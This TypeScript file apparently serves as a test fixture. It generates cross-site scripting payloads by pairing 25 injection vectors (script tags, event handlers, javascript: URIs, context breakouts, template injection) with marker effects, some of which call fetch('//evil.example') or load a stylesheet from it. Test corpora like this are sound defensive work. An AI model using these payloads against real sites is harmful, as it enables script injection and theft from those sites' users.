/** XSS payloads: each way to inject script, with each visible effect. */

const ACTS = ['window.struck=1', 'document.body.dataset.struck=1', "fetch('//evil.example')", 'alert(1)'];

const WAYS_IN: ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `<svg onload="${act}">`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  (act) => `<iframe src="javascript:${act}"></iframe>`,
  (act) => `<a href="javascript:${act}" id=struck>x</a>`,
  (act) => `<body onload="${act}">`,
  (act) => `<details open ontoggle="${act}">x</details>`,
  (act) => `<input autofocus onfocus="${act}">`,
  (act) => `<video><source onerror="${act}"></video>`,
  (act) => `<style>@import '//evil.example'</style><b onclick="${act}">`,
  (act) => `"><script>${act}</script>`,
  (act) => `'><img src=x onerror=${act}>`,
  (act) => `</div></li></ol><img src=x onerror="${act}">`,
  (act) => `</script><script>${act}</script>`,
  (act) => `--><img src=x onerror="${act}">`,
  (act) => `]]><img src=x onerror="${act}">`,
  (act) => `\${${act}}{{constructor.constructor('${act}')()}}`,
  (act) => `&lt;img src=x onerror=${act}&gt;`,
  (act) => `<math><mi xlink:href="javascript:${act}">x</mi></math>`,
  (act) => `<object data="javascript:${act}"></object>`,
  (act) => `<embed src="javascript:${act}">`,
  (act) => `<form action="javascript:${act}"><button>x</button></form>`,
  (act) => `<link rel=stylesheet href="//evil.example" onload="${act}">`,
];

export const PAYLOADS: readonly string[] = WAYS_IN.flatMap((wayIn) => ACTS.map(wayIn));
